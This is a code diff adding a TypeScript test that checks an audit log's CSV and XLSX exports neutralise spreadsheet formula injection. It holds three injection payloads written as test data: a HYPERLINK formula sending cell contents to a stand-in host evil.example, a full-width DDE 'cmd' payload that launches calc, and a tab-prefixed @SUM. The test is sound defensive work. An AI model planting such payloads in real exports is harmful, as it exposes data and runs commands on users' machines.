@@ -219,4 +219,27 @@ describe('the audit log search and export', () => {
     expect(exports).toHaveLength(2);
     expect(exports[0]?.after).toMatchObject({ format: 'csv', lines: 2 });
   });
+
+  it('keeps text that a spreadsheet could run as a formula inert in the export, past leading blanks and in full width', async () => {
+    const admin = await staffSession(t, 'administrator', '77424');
+    // Anyone may leave a refused line (no token at all): its target is the path's id, as typed.
+    const targets = [' =HYPERLINK("http://evil.example/?"&A1)', "\uff1dcmd|' /C calc'!A0", '\t\t@SUM(1+1)'];
+    for (const target of targets) {
+      const refused = await call('POST', `/api/operator/customers/${encodeURIComponent(target)}/unblock`, {}, { reason: 'x' });
+      expect(refused.statusCode).toBe(401);
+    }
+    const csv = await call('GET', '/api/operator/audit/export?format=csv&action=operatorUnblockCustomer&outcome=refused', {
+      ...admin.headers,
+      'accept-language': 'EN',
+    });
+    expect(csv.statusCode).toBe(200);
+    for (const target of targets) {
+      expect(csv.body).toContain(`'${target.replace(/"/g, '""')}`);
+    }
+    const xlsx = await call('GET', '/api/operator/audit/export?action=operatorUnblockCustomer&outcome=refused', admin.headers);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const cells = (book.worksheets[0]?.getColumn(7).values ?? []).filter((v): v is string => typeof v === 'string');
+    for (const target of targets) expect(cells).toContain(`'${target}`);
+  });
 });
